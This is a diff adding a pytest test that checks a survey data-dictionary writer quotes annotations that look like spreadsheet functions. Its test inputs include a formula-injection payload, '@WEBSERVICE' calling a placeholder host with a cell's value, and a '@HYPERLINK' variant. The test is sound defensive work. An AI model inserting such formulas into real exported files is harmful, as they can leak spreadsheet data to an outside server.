@@ -170,3 +170,15 @@ def test_an_exported_dictionary_reimports_to_the_same_items(hostile):
     # and into the same study again: nothing changed, so no new version
     again = dictionary_import_forms(study=hostile, text=exported)
     assert [f.outcome for f in again] == ["unchanged"]
+
+
+@pytest.mark.parametrize(
+    "annotation",
+    ['@WEBSERVICE("http://x.invalid/?"&B2)', '@HYPERLINK("http://x.invalid")', "@SUM(1+1)"],
+)
+def test_an_annotation_that_is_a_spreadsheet_function_is_quoted(annotation):
+    from surveys.dictionary.writer import ANNOTATION, _formula_guard
+
+    assert _formula_guard(ANNOTATION, annotation, "text").startswith("'@")
+    assert _formula_guard(ANNOTATION, "@HIDDEN-SURVEY @DEFAULT='1'", "text")[0] == "@"
+    assert _formula_guard(ANNOTATION, '@DIARY="group=1"', "text")[0] == "@"
